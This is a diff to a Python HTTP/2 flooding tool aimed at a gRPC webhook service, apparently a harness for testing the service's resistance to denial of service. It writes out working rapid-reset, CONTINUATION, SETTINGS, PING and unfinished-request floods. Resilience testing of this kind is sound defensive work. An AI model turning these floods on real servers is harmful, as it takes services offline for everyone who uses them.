@@ -23,11 +23,12 @@ def literal(name, value):
     return (b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value)
 
 
-def call_headers(path=b"/webhooks.v1.WebhookService/List"):
+def call_headers(*more):
     return b"".join(literal(name, value) for name, value in (
-        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
+        (b":method", b"POST"), (b":scheme", b"http"),
+        (b":path", b"/webhooks.v1.WebhookService/List"),
         (b":authority", b"a"), (b"te", b"trailers"),
-        (b"content-type", b"application/grpc")))
+        (b"content-type", b"application/grpc")) + more)
 
 
 EMPTY_MESSAGE = b"\0\0\0\0\0"
@@ -38,15 +39,32 @@ def streams(make, first=1, count=FIRST_STREAMS):
     return b"".join(make(id) for id in range(first, first + 2 * count, 2))
 
 
-def rapid_resets(first):
-    headers = call_headers()
+def rapid_resets(first, *more):
+    headers = call_headers(*more)
     return streams(lambda id: frame(HEADERS, END_HEADERS, id, headers)
                    + frame(DATA, END_STREAM, id, EMPTY_MESSAGE)
                    + frame(RST_STREAM, 0, id, struct.pack(">I", CANCEL)), first)
 
 
-def open_stream(path=b"/webhooks.v1.WebhookService/List"):
-    return frame(HEADERS, END_HEADERS, 1, call_headers(path))
+OPEN_STREAM = frame(HEADERS, END_HEADERS, 1, call_headers())
+
+
+def large_headers(first):
+    """Streams that stay open, each with headers of 60 KiB in two frames."""
+    field = literal(b"x" * 60, b"y" * 60)
+    rest = field * 120
+    return streams(
+        lambda id: frame(HEADERS, 0, id, call_headers())
+        + b"".join(frame(CONTINUATION, 0, id, rest) for _ in range(3))
+        + frame(CONTINUATION, END_HEADERS, id, rest), first, 200)
+
+
+def unfinished_requests(first):
+    """Streams whose message of 1 MiB stops after 16,000 bytes."""
+    message = b"\0" + struct.pack(">I", 1 << 20)
+    return streams(
+        lambda id: frame(HEADERS, END_HEADERS, id, call_headers())
+        + frame(DATA, 0, id, message + b"z" * 16000), first, 500)
 
 
 # What is sent first, and then over and over; a function makes what follows of
@@ -61,8 +79,10 @@ FLOODS = {
     "settings": (b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
                  * 30000),
     "ping": (b"", frame(PING, 0, 0, b"12345678") * 30000),
-    "priority": (open_stream(), frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 30000),
-    "empty data": (open_stream(), frame(DATA, 0, 1) * 50000),
+    "priority": (OPEN_STREAM, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 30000),
+    "large headers": (b"", large_headers),
+    "unfinished requests": (b"", unfinished_requests),
+    "empty data": (OPEN_STREAM, frame(DATA, 0, 1) * 50000),
 }
 
 
@@ -70,10 +90,13 @@ class Attack:
     """Connections that each send a flood until stopped; connects again when it
     is closed."""
 
-    def __init__(self, address, name, connections=8, tls=None):
+    def __init__(self, address, name, connections=8, tls=None, key=None):
         host, port = address.rsplit(":", 1)
-        self._address = (host, int(port))
+        self._address = (host.strip("[]"), int(port))
         self._begin, self._flood = FLOODS[name]
+        if key is not None:
+            self._flood = lambda first: rapid_resets(
+                first, (b"x-api-key", key.encode()))
         self._tls = tls
         self._stop = threading.Event()
         self.bytes = 0
